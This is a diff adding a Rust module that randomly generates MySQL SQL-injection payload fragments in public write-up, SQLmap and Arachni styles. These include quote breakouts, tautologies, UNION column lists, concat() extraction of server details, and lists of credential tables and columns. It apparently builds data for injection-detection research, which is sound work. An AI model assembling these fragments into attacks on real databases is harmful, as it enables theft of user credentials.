@@ -1,0 +1,258 @@
+//! SQL-injection payload building blocks.
+//!
+//! These helpers compose the raw (un-obfuscated) payload text for the
+//! attack families in [`crate::families`]. They generate MySQL-flavored
+//! SQL, matching the paper's restriction of the feature set to MySQL
+//! reserved words.
+
+use rand::Rng;
+
+/// Surface style of generated payloads. Different tools emit the
+/// same techniques with different idioms — SQLmap enumerates
+/// `NULL,NULL,...` columns and brands its extractions with random
+/// `0x71xxxxxx` marker strings, Arachni-style fuzzers prefer quoted
+/// string fillers — and that stylistic gap is what separates a
+/// training corpus from tool-generated test traffic.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum PayloadStyle {
+    /// Public exploit write-ups (training corpus).
+    Portal,
+    /// SQLmap-like systematic payloads.
+    Sqlmap,
+    /// Arachni/Vega-like fuzzing payloads.
+    Arachni,
+}
+
+/// Column/table identifier pools that mimic what public exploit
+/// samples target.
+pub const TABLES: &[&str] = &[
+    "users", "admin", "members", "accounts", "customers", "orders", "products",
+    "sessions", "config", "wp_users", "jos_users", "tbl_user",
+];
+
+/// Column names commonly exfiltrated.
+pub const COLUMNS: &[&str] = &[
+    "id", "username", "password", "email", "login", "pass", "passwd",
+    "user_id", "credit_card", "hash", "salt", "secret",
+];
+
+/// MySQL information functions attackers splice into payloads.
+pub const INFO_FUNCS: &[&str] = &[
+    "version()", "database()", "user()", "current_user()", "@@version",
+    "@@datadir", "schema()", "@@hostname",
+];
+
+/// Picks a random element of a non-empty slice.
+pub fn pick<'a, R: Rng>(rng: &mut R, items: &'a [&'a str]) -> &'a str {
+    items[rng.gen_range(0..items.len())]
+}
+
+/// A random 1-based column position list `1,2,...,n` with one slot
+/// replaced by an expression, as union-based attacks enumerate.
+pub fn union_columns<R: Rng>(rng: &mut R, expr: &str) -> String {
+    union_columns_styled(rng, expr, PayloadStyle::Portal)
+}
+
+/// Style-aware variant of [`union_columns`]: SQLmap emits `NULL`
+/// almost everywhere, portals prefer position numbers, fuzzers mix
+/// string fillers in.
+pub fn union_columns_styled<R: Rng>(rng: &mut R, expr: &str, style: PayloadStyle) -> String {
+    let n = rng.gen_range(2..=12);
+    let slot = rng.gen_range(0..n);
+    (0..n)
+        .map(|i| {
+            if i == slot {
+                return expr.to_string();
+            }
+            match style {
+                PayloadStyle::Portal => {
+                    if rng.gen_bool(0.3) {
+                        "null".to_string()
+                    } else {
+                        (i + 1).to_string()
+                    }
+                }
+                PayloadStyle::Sqlmap => {
+                    if rng.gen_bool(0.85) {
+                        "null".to_string()
+                    } else {
+                        (i + 1).to_string()
+                    }
+                }
+                PayloadStyle::Arachni => match rng.gen_range(0..3) {
+                    0 => "null".to_string(),
+                    1 => (i + 1).to_string(),
+                    _ => format!("'fz{}'", rng.gen_range(10..99)),
+                },
+            }
+        })
+        .collect::<Vec<_>>()
+        .join(",")
+}
+
+/// `concat(a,char(58),b)`-style exfiltration expression.
+pub fn concat_expr<R: Rng>(rng: &mut R) -> String {
+    concat_expr_styled(rng, PayloadStyle::Portal)
+}
+
+/// Style-aware variant of [`concat_expr`]: SQLmap brands its output
+/// with random `0x71xxxxxx` marker strings so it can find it in the
+/// response; write-ups use `char(58)` / `0x3a` colons instead.
+pub fn concat_expr_styled<R: Rng>(rng: &mut R, style: PayloadStyle) -> String {
+    let mut parts = Vec::new();
+    let n = rng.gen_range(2..=4);
+    let marker = |rng: &mut R| -> String {
+        // SQLmap-style random marker: 0x71 ('q') followed by three
+        // random lowercase hex-encoded letters.
+        let tail: String = (0..3)
+            .map(|_| format!("{:02x}", rng.gen_range(b'a'..=b'z')))
+            .collect();
+        format!("0x71{tail}")
+    };
+    match style {
+        PayloadStyle::Sqlmap => {
+            parts.push(marker(rng));
+            for i in 0..n {
+                if i > 0 {
+                    parts.push(marker(rng));
+                }
+                parts.push(pick(rng, INFO_FUNCS).to_string());
+            }
+            parts.push(marker(rng));
+        }
+        PayloadStyle::Portal => {
+            for i in 0..n {
+                if i > 0 {
+                    parts.push(if rng.gen_bool(0.5) {
+                        "char(58)".to_string()
+                    } else {
+                        "0x3a".to_string()
+                    });
+                }
+                parts.push(pick(rng, INFO_FUNCS).to_string());
+            }
+        }
+        PayloadStyle::Arachni => {
+            for i in 0..n {
+                if i > 0 {
+                    parts.push(format!("'sep{}'", rng.gen_range(1..9)));
+                }
+                parts.push(pick(rng, INFO_FUNCS).to_string());
+            }
+        }
+    }
+    format!("concat({})", parts.join(","))
+}
+
+/// A numeric id that often prefixes injections (`-1`, `1`, `999999`).
+pub fn base_id<R: Rng>(rng: &mut R) -> String {
+    match rng.gen_range(0..4) {
+        0 => "-1".to_string(),
+        1 => "1".to_string(),
+        2 => "0".to_string(),
+        _ => format!("{}", rng.gen_range(2..999_999)),
+    }
+}
+
+/// A quote-breakout prefix: `'`, `"`, `')`, `")`, or nothing for
+/// numeric contexts.
+pub fn breakout<R: Rng>(rng: &mut R) -> &'static str {
+    match rng.gen_range(0..6) {
+        0 => "'",
+        1 => "\"",
+        2 => "')",
+        3 => "\")",
+        4 => "'))",
+        _ => "",
+    }
+}
+
+/// A trailing comment that neutralizes the rest of the query:
+/// `-- -`, `--+`, `#`, or `;%00`-less plain `--`.
+pub fn trailer<R: Rng>(rng: &mut R) -> &'static str {
+    match rng.gen_range(0..5) {
+        0 => "-- -",
+        1 => "--+",
+        2 => "#",
+        3 => "--",
+        _ => "",
+    }
+}
+
+/// A random string literal in quotes, occasionally hex-encoded.
+pub fn string_literal<R: Rng>(rng: &mut R) -> String {
+    let words = ["a", "x", "admin", "1", "test", "abc"];
+    let w = pick(rng, &words);
+    if rng.gen_bool(0.2) {
+        // Hex literal form 0x....
+        format!(
+            "0x{}",
+            w.bytes().map(|b| format!("{b:02x}")).collect::<String>()
+        )
+    } else {
+        format!("'{w}'")
+    }
+}
+
+/// A tautology comparison like `1=1` or `'a'='a'`.
+pub fn tautology<R: Rng>(rng: &mut R) -> String {
+    match rng.gen_range(0..5) {
+        0 => "1=1".to_string(),
+        1 => "'1'='1".to_string(),
+        2 => "\"a\"=\"a".to_string(),
+        3 => {
+            let n = rng.gen_range(2..50);
+            format!("{n}={n}")
+        }
+        _ => "2>1".to_string(),
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use rand::SeedableRng;
+    use rand_chacha::ChaCha8Rng;
+
+    fn rng() -> ChaCha8Rng {
+        ChaCha8Rng::seed_from_u64(7)
+    }
+
+    #[test]
+    fn union_columns_contains_expr() {
+        let mut r = rng();
+        for _ in 0..50 {
+            let cols = union_columns(&mut r, "version()");
+            assert!(cols.contains("version()"), "{cols}");
+            assert!(cols.contains(','));
+        }
+    }
+
+    #[test]
+    fn concat_expr_shape() {
+        let mut r = rng();
+        for _ in 0..50 {
+            let e = concat_expr(&mut r);
+            assert!(e.starts_with("concat("), "{e}");
+            assert!(e.ends_with(')'));
+        }
+    }
+
+    #[test]
+    fn generators_are_deterministic_per_seed() {
+        let mut a = ChaCha8Rng::seed_from_u64(42);
+        let mut b = ChaCha8Rng::seed_from_u64(42);
+        for _ in 0..20 {
+            assert_eq!(union_columns(&mut a, "x"), union_columns(&mut b, "x"));
+        }
+    }
+
+    #[test]
+    fn tautologies_contain_comparison() {
+        let mut r = rng();
+        for _ in 0..30 {
+            let t = tautology(&mut r);
+            assert!(t.contains('=') || t.contains('>'), "{t}");
+        }
+    }
+}
